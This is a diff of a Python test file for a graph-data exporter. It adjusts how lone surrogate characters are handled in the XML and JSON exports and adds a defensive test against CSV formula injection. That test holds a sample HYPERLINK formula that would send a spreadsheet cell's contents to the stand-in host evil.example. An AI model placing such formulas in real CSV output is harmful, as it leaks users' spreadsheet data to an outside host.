@@ -398,24 +398,37 @@ def _one_release(name: str, link_type: str = "Successor") -> MemoryStore:
 
 
 def test_a_lone_surrogate_is_an_export_error_where_the_file_is_utf8_text(tmp_path: Path) -> None:
-    store = _one_release("Bad \udc80 name")  # no UTF-8 text can hold it, and XML cannot carry it
-    for fmt in ("graphml", "gexf", "cytoscape", "csv"):
+    store = _one_release("Bad \udc80 name")  # no UTF-8 text can hold it
+    for fmt in ("cytoscape", "csv"):
         with pytest.raises(ExportError, match=f"cannot write {re.escape(str(tmp_path / fmt))}"):
             export(store, fmt, tmp_path / fmt)
     assert list(tmp_path.iterdir()) == []
     export(store, "prov-json", tmp_path / "prov.json")  # JSON escapes it as \udc80, and reads it back
     assert read_prov(tmp_path / "prov.json").nodes["Organisation:o1"]["name"] == "Bad \udc80 name"
+    for fmt in ("graphml", "gexf"):  # XML cannot carry it: written as the six characters \udc80
+        export(store, fmt, tmp_path / fmt)
+        assert READERS[fmt](tmp_path / fmt).nodes["Organisation:o1"]["name"] == "Bad \\udc80 name"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_like_a_formula_are_written_as_text(tmp_path: Path, start: str) -> None:
+    """OWASP's CSV injection: a spreadsheet runs a cell starting with any of these; with a quote first, it shows
+    the text. The export reads from a store whatever its kind, so the embedded store stands for both."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
+    export(_one_release(formula, link_type=f"{start}1+1"), "csv", tmp_path / "out")
+    with (tmp_path / "out" / "nodes.csv").open(encoding="utf-8", newline="") as handle:
+        names = {row["id"]: row["name"] for row in csv.DictReader(handle)}
+    assert names == {"Organisation:o1": "'" + formula, "Release:R1": "R1"}
+    with (tmp_path / "out" / "edges.csv").open(encoding="utf-8", newline="") as handle:
+        assert [row["link_type"] for row in csv.DictReader(handle)] == [f"'{start}1+1"]
+    cells = (tmp_path / "out" / "nodes.csv").read_text(encoding="utf-8").replace('"', "").replace("\n", ",")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.split(","))
 
 
 @pytest.mark.parametrize("fmt", ["graphml", "gexf"])
-def test_xml_refuses_characters_xml_cannot_carry(tmp_path: Path, fmt: str) -> None:
-    with pytest.raises(ExportError, match=r"node 'Organisation:o1': property 'name' holds '\\x00'"):
-        export(_one_release("A\x00B"), fmt, tmp_path / "out")
-    edge = "Release:R1|SENT_TO|Organisation:o1"
-    with pytest.raises(ExportError, match=rf"edge '{re.escape(edge)}': property 'link_type' holds '\\x0b'"):
-        export(_one_release("Fine Ltd", "A\x0bB"), fmt, tmp_path / "out")
-    assert list(tmp_path.iterdir()) == []
-    # a tab, a line feed and a letter beyond the Basic Multilingual Plane are XML characters
+def test_xml_keeps_the_characters_it_can_carry(tmp_path: Path, fmt: str) -> None:
+    """A tab, a line feed and a letter beyond the Basic Multilingual Plane are XML characters, kept as they are
+    (those XML cannot carry: tests/lineage/test_xml_safety.py)."""
     export(_one_release("A\tB\nC 𠮷"), fmt, tmp_path / "out")
     assert READERS[fmt](tmp_path / "out").nodes["Organisation:o1"]["name"] == "A\tB\nC 𠮷"
 
